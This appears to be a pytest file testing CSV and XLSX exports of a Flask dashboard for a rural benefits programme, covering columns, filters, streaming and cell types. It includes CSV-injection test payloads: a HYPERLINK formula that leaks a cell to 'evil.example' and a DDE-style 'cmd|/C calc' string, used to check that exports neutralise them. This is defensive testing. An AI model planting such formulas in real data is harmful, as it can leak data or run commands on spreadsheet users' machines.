"""CSV and XLSX exports: stable columns, the dashboard's filters, streamed, valid when empty."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import insert, select

from fieldapp.extensions import db
from tests.dashboard_expected import Expected, Period
from tests.test_dashboard import (
    pg_app,  # noqa: F401 - the PostgreSQL demo app fixture
    staff_member,
)

YEAR = {"from": "2026-01", "to": "2026-10"}

#: The published column names (docs/using/dashboard.en.md, "Export columns"). Changing one
#: breaks users' sheets: this list changes only by adding at the end, with the docs.
COLUMNS = {
    "community_summary": [
        "community_code",
        "community_name",
        "families_registered",
        "families_active_agreement",
        "families_compliant",
        "families_non_compliant",
        "families_not_visited",
        "families_no_agreement",
        "families_received_benefits",
        "families_compliant_and_received",
    ],
    "communities": [
        "community_id",
        "community_code",
        "community_name",
        "district",
        "province",
        "sector",
        "lat",
        "lon",
    ],
    "families": [
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "dni",
        "members_count",
        "phone",
        "lat",
        "lon",
        "plot_name",
        "plot_ha",
        "forest_ha",
        "coffee_ha",
        "data_consent",
        "registered_at",
        "agreement_number",
        "agreement_status",
        "has_active_agreement",
        "compliance_status",
        "last_visit_on",
        "sanctions_in_force",
        "received_benefits_in_period",
    ],
    "agreements": [
        "agreement_id",
        "agreement_number",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "year",
        "period_start",
        "period_end",
        "status",
        "kind",
        "version_no",
        "supersedes_number",
        "signed_at",
        "signed_place",
        "signed_on_paper",
        "content_hash",
        "status_changed_at",
        "status_reason",
        "created_by_name",
    ],
    "promised_benefits": [
        "agreement_number",
        "agreement_status",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "benefit_code",
        "benefit_name",
        "quantity",
        "unit",
        "schedule",
        "promise_id",
    ],
    "deliveries": [
        "delivery_id",
        "delivery_code",
        "delivered_on",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "benefit_code",
        "benefit_category",
        "item",
        "quantity",
        "signed_quantity",
        "unit",
        "delivered_by_name",
        "receipt_kind",
        "is_reversal",
        "reverses_code",
        "reason",
        "suspected_duplicate_of_code",
    ],
    "trainings": [
        "session_id",
        "session_code",
        "held_on",
        "topic",
        "community_code",
        "community_name",
        "trainer_name",
        "place",
        "duration_hours",
        "attendees",
    ],
    "attendance": [
        "session_code",
        "held_on",
        "topic",
        "session_community_code",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "attendee_name",
        "attendance_id",
    ],
    "visits": [
        "visit_id",
        "visit_code",
        "visited_on",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "monitor_name",
        "lat",
        "lon",
        "findings_met",
        "findings_partial",
        "findings_breached",
        "findings_not_checked",
        "notes",
    ],
    "findings": [
        "finding_id",
        "visit_code",
        "visited_on",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "commitment_code",
        "result",
        "notes",
    ],
    "sanctions": [
        "sanction_id",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "visit_code",
        "level",
        "status",
        "reason",
        "created_at",
        "decided_at",
        "decided_by_name",
        "in_force",
    ],
    "no_visit": [
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "last_visit_on",
    ],
    "expiring": [
        "agreement_id",
        "agreement_number",
        "status",
        "period_end",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
    ],
    "owed": [
        "agreement_number",
        "agreement_status",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "benefit_code",
        "benefit_name",
        "unit",
        "promised",
        "delivered",
        "owed",
    ],
    "suspended": [
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "agreement_number",
        "status_changed_at",
        "status_reason",
    ],
    "duplicates": [
        "delivery_id",
        "delivery_code",
        "delivered_on",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "benefit_code",
        "quantity",
        "unit",
        "delivered_by_name",
        "twin_code",
        "twin_delivered_on",
        "twin_delivered_by_name",
        "reason",
    ],
    "grievances": [
        "grievance_id",
        "code",
        "received_on",
        "community_code",
        "community_name",
        "channel",
        "category",
        "confidential",
        "anonymous",
        "status",
        "acknowledge_due_on",
        "answer_due_on",
        "first_answered_on",
        "days_to_answer",
        "answered_in_time",
        "overdue",
        "appealed",
    ],
    "attachments": [
        "attachment_id",
        "family_id",
        "family_code",
        "head_given_names",
        "head_surname",
        "community_code",
        "community_name",
        "record_table",
        "record_id",
        "kind",
        "caption",
        "sha256",
        "size_bytes",
        "width",
        "height",
        "recorded_by",
        "attached_at",
        "file_link",
    ],
}


@pytest.fixture
def dash_app(app_factory: Any) -> Flask:
    return app_factory(demo=True, DASHBOARD_TODAY="2026-10-31")


@pytest.fixture
def coordinator(dash_app: Flask) -> FlaskClient:
    client = dash_app.test_client()
    assert (
        client.post(
            "/auth/login", data={"username": "coordinadora", "password": "fieldapp-demo"}
        ).status_code
        == 302
    )
    return client


def read_csv(response: Any) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def csv_header(response: Any) -> list[str]:
    return next(csv.reader(io.StringIO(response.get_data(as_text=True)[1:])))


def read_xlsx(response: Any) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    rows = [row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
    book.close()
    return rows


@pytest.mark.parametrize("name", sorted(COLUMNS))
def test_every_dataset_has_its_documented_columns(coordinator: FlaskClient, name: str) -> None:
    response = coordinator.get(f"/dashboard/export/{name}.csv", query_string=YEAR)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="fieldapp-{name}-2026-01_2026-10.csv"'
    )
    assert csv_header(response) == COLUMNS[name]
    book = coordinator.get(f"/dashboard/export/{name}.xlsx", query_string=YEAR)
    assert book.status_code == 200
    assert book.mimetype.endswith("spreadsheetml.sheet")
    assert list(read_xlsx(book)[0]) == COLUMNS[name]


def test_deliveries_export_is_what_was_recorded(dash_app: Flask, coordinator: FlaskClient) -> None:
    rows = read_csv(coordinator.get("/dashboard/export/deliveries.csv", query_string=YEAR))
    with dash_app.app_context():
        exp = Expected(Period("2026-01", "2026-10"))
        wanted = [
            d
            for d in exp.deliveries
            if not d.voided and date(2026, 1, 1) <= d.delivered_on <= date(2026, 10, 31)
        ]
        assert {r["delivery_code"] for r in rows} == {d.code for d in wanted}
        assert sum(Decimal(r["signed_quantity"]) for r in rows) == sum(
            -d.quantity if d.reverses_id else d.quantity for d in wanted
        )
    reversals = [r for r in rows if r["is_reversal"] == "true"]
    assert all(r["reverses_code"] and Decimal(r["signed_quantity"]) < 0 for r in reversals)
    assert all(
        r["is_reversal"] == "false" and r["reverses_code"] == "" for r in rows if r not in reversals
    )
    assert all("2026-01-01" <= r["delivered_on"] <= "2026-10-31" for r in rows)
    assert any("é" in r["item"] for r in rows)  # "Plantones de café": UTF-8 kept


def test_exports_follow_the_community_filter(dash_app: Flask, coordinator: FlaskClient) -> None:
    from fieldapp.communities.models import Community

    with dash_app.app_context():
        chosen = db.session.execute(select(Community).order_by(Community.code)).scalars().first()
        code, community_id = chosen.code, str(chosen.id)
    args = {**YEAR, "community": community_id}
    for name in ("families", "deliveries", "visits", "findings", "agreements", "owed"):
        rows = read_csv(coordinator.get(f"/dashboard/export/{name}.csv", query_string=args))
        everything = read_csv(coordinator.get(f"/dashboard/export/{name}.csv", query_string=YEAR))
        assert rows, name
        assert all(r["community_code"] == code for r in rows), name
        assert len(rows) == sum(1 for r in everything if r["community_code"] == code), name


def test_families_export_carries_the_compliance_status(
    dash_app: Flask, coordinator: FlaskClient
) -> None:
    rows = read_csv(coordinator.get("/dashboard/export/families.csv", query_string=YEAR))
    with dash_app.app_context():
        families = Expected(Period("2026-01", "2026-10")).family_rows()
    by_code = {v["code"]: v for v in families.values()}
    assert {r["family_code"] for r in rows} == set(by_code)
    for r in rows:
        want = by_code[r["family_code"]]
        assert r["compliance_status"] == want["status"]
        assert r["received_benefits_in_period"] == ("true" if want["received"] else "false")
        assert r["has_active_agreement"] == ("true" if want["active"] else "false")


def test_empty_selection_gives_a_valid_file_with_headers(
    dash_app: Flask, coordinator: FlaskClient
) -> None:
    from fieldapp.communities.models import Community

    future = {"from": "2030-01", "to": "2030-02"}
    for name in ("deliveries", "visits", "trainings", "sanctions", "duplicates"):
        csv_file = coordinator.get(f"/dashboard/export/{name}.csv", query_string=future)
        assert csv_file.status_code == 200
        assert csv_file.get_data(as_text=True) == "\ufeff" + ",".join(COLUMNS[name]) + "\r\n"
        rows = read_xlsx(coordinator.get(f"/dashboard/export/{name}.xlsx", query_string=future))
        assert rows == [tuple(COLUMNS[name])]
    with dash_app.app_context():
        empty = uuid.uuid4()
        db.session.execute(insert(Community), [{"id": empty, "code": "C999", "name": "Vacía"}])
        db.session.commit()
    families = coordinator.get(
        "/dashboard/export/families.csv", query_string={**YEAR, "community": str(empty)}
    )
    assert read_csv(families) == []
    assert csv_header(families) == COLUMNS["families"]


def test_exports_are_streamed_in_chunks(coordinator: FlaskClient) -> None:
    response = coordinator.get(
        "/dashboard/export/deliveries.csv", query_string=YEAR, buffered=False
    )
    assert response.is_streamed
    chunks = list(response.response)
    response.close()
    assert len(chunks) > 1  # a batch of rows at a time, not one string built in memory
    assert b"".join(chunks).count(b"\r\n") > 1000
    xlsx = coordinator.get("/dashboard/export/deliveries.xlsx", query_string=YEAR, buffered=False)
    assert xlsx.is_streamed
    xlsx.close()


def test_xlsx_cells_are_typed(coordinator: FlaskClient) -> None:
    rows = read_xlsx(coordinator.get("/dashboard/export/deliveries.xlsx", query_string=YEAR))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=False))
    assert header[0] == "delivery_id"
    assert isinstance(first["delivered_on"], datetime)
    assert isinstance(first["quantity"], int | float)
    assert first["is_reversal"] in (True, False)
    book = load_workbook(
        io.BytesIO(coordinator.get("/dashboard/export/deliveries.xlsx", query_string=YEAR).data)
    )
    assert book.active["A1"].font.bold


def _awkward_delivery(app: Flask) -> str:
    """A delivery whose free text needs CSV quoting and whose quantity has decimals."""
    from fieldapp.deliveries.models import Delivery

    with app.app_context():
        model = db.session.execute(
            select(Delivery).where(Delivery.reverses_id.is_(None)).limit(1)
        ).scalar_one()
        values = {c.name: getattr(model, c.name) for c in Delivery.__table__.columns}
        values |= {
            "id": uuid.uuid4(),
            "code": "AM-E-TEST-1",
            "item": 'Plantones "Catimor", injertados\r\nen vivero',
            "reason": "línea 1\nlínea 2",
            "quantity": Decimal("12.50"),
            "delivered_on": date(2026, 5, 4),
        }
        db.session.execute(insert(Delivery), [values])
        db.session.commit()
    return values["item"]


#: A family name any field staff can type, or any node push: a live formula in a spreadsheet.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
#: Text starting like a formula in other text columns of the exports.
HOSTILE_TEXT = {"item": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "-2+3+cmd", "notes": "+1+1",
                "delivered_by_name": "\t=1+2", "unit": "\r=3"}


def _starts_like_formula(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def _hostile_records(app: Flask) -> tuple[str, str]:
    """A family named with a formula, with a negative coordinate; one of its deliveries and a
    visit carry formula-like text. Returns the family's code and the delivery's code."""
    from fieldapp.compliance.models import ComplianceVisit
    from fieldapp.deliveries.models import Delivery
    from fieldapp.families.models import Family

    with app.app_context():
        model = db.session.execute(
            select(Delivery).where(Delivery.reverses_id.is_(None)).order_by(Delivery.code).limit(1)
        ).scalar_one()
        family = db.session.get(Family, model.family_id)
        family.head_surname = HOSTILE_NAME
        family.head_given_names = "\x01=Ana Luz"  # a control character XLSX cannot hold
        family.phone = "+51 942 000 111"
        family.lat, family.lon = -5.912345, -77.123456
        other = db.session.execute(
            select(Delivery).where(Delivery.reverses_id.is_(None),
                                   Delivery.family_id != family.id).limit(1)
        ).scalar_one()
        # One delivery per hostile column, each alone in its line and for another family (the
        # fast CSV path must see every one of them), and one with all of them.
        columns = [c for c in HOSTILE_TEXT if c != "notes"]
        db.session.execute(insert(Delivery), [
            {c.name: getattr(other if n else model, c.name) for c in Delivery.__table__.columns}
            | {"id": uuid.uuid4(), "code": f"AM-E-HOSTILE-{n}", "quantity": Decimal("3"),
                      "delivered_on": date(2026, 5, 5),
                      **{c: HOSTILE_TEXT[c] for c in (columns if n == 0 else columns[n - 1:n])}}
            for n in range(len(columns) + 1)
        ])
        for visit in db.session.execute(select(ComplianceVisit).limit(3)).scalars():
            visit.notes = HOSTILE_TEXT["notes"]
        db.session.commit()
        return family.code, "AM-E-HOSTILE-0"


def _reference_text(value: Any, kind: str) -> str:
    """A value read through SQLAlchemy's types, as the README says the CSV writes it (text
    that starts like a formula with a ``'`` in front)."""
    if value is None:
        return ""
    if kind == "text":
        return "'" + str(value) if _starts_like_formula(str(value)) else str(value)
    if kind == "bool":
        return "true" if value else "false"
    if kind == "uuid":
        return str(uuid.UUID(str(value)))
    if kind == "datetime":
        return value.strftime("%Y-%m-%dT%H:%M:%SZ")
    if kind == "date":
        return value.isoformat()
    if kind == "decimal":
        text = f"{value:.6f}" if isinstance(value, float) else str(value)
        text = text.rstrip("0").rstrip(".") if "." in text else text
        return "0" if text in ("-0", "") else text
    return str(value)


def _reference_csv(dataset: Any, f: Any) -> bytes:
    """The dataset as Python's ``csv`` module writes its rows, read with the joins of
    ``dataset.build`` and SQLAlchemy's types: the exports must give these bytes."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(dataset.column_names())
    kinds = [c.kind for c in dataset.columns()]
    for row in db.session.execute(dataset.build(f)):
        writer.writerow([_reference_text(v, k) for v, k in zip(row, kinds, strict=True)])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


@pytest.mark.parametrize(
    "backend", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def test_every_export_is_what_pythons_csv_module_writes(
    request: pytest.FixtureRequest, dash_app: Flask, backend: str
) -> None:
    from fieldapp.communities.models import Community
    from fieldapp.dashboard.entities import ENTITIES
    from fieldapp.dashboard.exports import stream_csv
    from fieldapp.dashboard.filters import parse_filters
    from fieldapp.dashboard.lists import LISTS

    app = dash_app if backend == "sqlite" else request.getfixturevalue("pg_app")
    item = _awkward_delivery(app)
    _hostile_records(app)
    staff = str(staff_member(app)[0])
    with app.test_request_context():
        first = db.session.execute(select(Community.id).order_by(Community.code)).scalar()
        everything = {"from": "2000-01", "to": "2100-12"}
        for name, dataset in {**ENTITIES, **LISTS}.items():
            for args in (
                YEAR,
                everything,
                {**YEAR, "community": str(first)},
                {**everything, "staff": staff},
            ):
                f = parse_filters(args)
                written = b"".join(stream_csv(dataset, f))
                assert written == _reference_csv(dataset, f), (name, args)
        deliveries = b"".join(stream_csv(ENTITIES["deliveries"], parse_filters(YEAR)))
        rows = list(csv.DictReader(io.StringIO(deliveries.decode()[1:], newline="")))
    awkward = [r for r in rows if r["delivery_code"] == "AM-E-TEST-1"]
    assert [(r["item"], r["reason"], r["quantity"]) for r in awkward] == [
        (item, "línea 1\nlínea 2", "12.5")
    ]


def test_read_ahead_gives_every_batch_and_stops_its_reader_with_the_download(tmp_path) -> None:
    """PostgreSQL exports read the next batches in a thread (``_read_ahead``): every row comes,
    in order; a download cut short stops the reader and gives its connection back; an error
    in the reader reaches the export."""
    import threading

    from sqlalchemy import Column, Integer, MetaData, Table, create_engine, text
    from sqlalchemy.exc import OperationalError
    from sqlalchemy.pool import QueuePool

    from fieldapp.dashboard.streaming import BATCH, _read_ahead

    engine = create_engine(f"sqlite:///{tmp_path / 'rows.sqlite'}", poolclass=QueuePool,
                           connect_args={"check_same_thread": False})
    numbers = Table("numbers", MetaData(), Column("n", Integer, primary_key=True))
    numbers.metadata.create_all(engine)
    with engine.begin() as conn:
        conn.execute(insert(numbers), [{"n": i} for i in range(5 * BATCH + 7)])
    stmt = select(numbers.c.n).order_by(numbers.c.n)

    batches = list(_read_ahead(engine, stmt))
    assert [len(b) for b in batches] == [BATCH] * 5 + [7]
    assert [row.n for b in batches for row in b] == list(range(5 * BATCH + 7))

    reading = _read_ahead(engine, stmt, depth=1)
    assert len(next(reading)) == BATCH
    reading.close()  # the client went away after the first batch
    assert not any(t.name == "export-reader" for t in threading.enumerate())
    assert engine.pool.checkedout() == 0

    with pytest.raises(OperationalError):
        list(_read_ahead(engine, select(text("x")).select_from(text("missing"))))
    assert engine.pool.checkedout() == 0
    engine.dispose()


def _check_export_cells(coordinator: FlaskClient, name: str, kinds: dict[str, str]) -> set[str]:
    """Check the CSV and XLSX of one export (over all dates): no text starts like a formula,
    XLSX text is string cells, numbers are numbers. Returns where the hostile name was seen."""
    everything = {"from": "2000-01", "to": "2100-12"}
    seen: set[str] = set()
    rows = read_csv(coordinator.get(f"/dashboard/export/{name}.csv", query_string=everything))
    for row in rows:
        for column, value in row.items():
            if kinds[column] == "text":
                assert not _starts_like_formula(value), (name, column, value)
            if value == "'" + HOSTILE_NAME:
                seen.add(name)
    book = load_workbook(io.BytesIO(coordinator.get(
        f"/dashboard/export/{name}.xlsx", query_string=everything).data))
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        for cells in sheet.iter_rows(min_row=2):
            for column, cell in zip(header, cells, strict=True):
                if cell.value is None:
                    continue
                if kinds[column] == "text":
                    assert cell.data_type == "s", (name, column, cell.value)
                    assert not _starts_like_formula(cell.value), (name, column, cell.value)
                if kinds[column] in ("int", "decimal"):
                    assert isinstance(cell.value, int | float), (name, column, cell.value)
                if cell.value == "'" + HOSTILE_NAME:
                    seen.add(name + ".xlsx")
    return seen


def test_exports_never_carry_a_live_formula(
    dash_app: Flask, coordinator: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Text starting like a formula (OWASP's CSV injection) leaves with a ``'`` in front, in
    every CSV and XLSX export; XLSX text cells are strings; numbers stay numbers."""
    from fieldapp.dashboard.entities import ENTITIES
    from fieldapp.dashboard.lists import LISTS

    family_code, delivery_code = _hostile_records(dash_app)
    seen_hostile: set[str] = set()
    for name, dataset in {**ENTITIES, **LISTS}.items():
        with dash_app.test_request_context():
            kinds = {c.name: c.kind for c in dataset.columns()}
        seen_hostile |= _check_export_cells(coordinator, name, kinds)
    assert {"families", "families.xlsx", "deliveries", "deliveries.xlsx"} <= seen_hostile

    families = read_csv(coordinator.get("/dashboard/export/families.csv", query_string=YEAR))
    mine = next(r for r in families if r["family_code"] == family_code)
    assert mine["head_surname"] == "'" + HOSTILE_NAME
    assert mine["phone"] == "'+51 942 000 111"
    assert (mine["lat"], mine["lon"]) == ("-5.912345", "-77.123456")  # numbers, as they are
    deliveries = read_csv(coordinator.get("/dashboard/export/deliveries.csv", query_string=YEAR))
    hostile = next(r for r in deliveries if r["delivery_code"] == delivery_code)
    for column, text in HOSTILE_TEXT.items():
        if column in hostile:
            assert hostile[column] == "'" + text, column
    assert hostile["head_surname"] == "'" + HOSTILE_NAME
    assert hostile["quantity"] == "3"
    assert any(r["signed_quantity"].startswith("-") for r in deliveries)  # a reversal's number
    # A batch of one line: each hostile value alone in a batch the fast path would write.
    monkeypatch.setattr("fieldapp.dashboard.streaming.BATCH", 1)
    alone = read_csv(coordinator.get("/dashboard/export/deliveries.csv", query_string=YEAR))
    assert alone == deliveries
    singles = [r for r in alone if r["delivery_code"].startswith("AM-E-HOSTILE-")]
    assert len(singles) == 5
    for row in singles:
        assert not any(_starts_like_formula(v) for v in row.values()), row

    sheet = load_workbook(io.BytesIO(coordinator.get(
        "/dashboard/export/families.xlsx", query_string=YEAR).data)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("family_code")].value
               == family_code)
    cell = row[header.index("head_surname")]
    assert (cell.value, cell.data_type) == ("'" + HOSTILE_NAME, "s")
    assert row[header.index("head_given_names")].value == "'=Ana Luz"
    assert row[header.index("lat")].value == pytest.approx(-5.912345)
    assert row[header.index("lat")].data_type == "n"
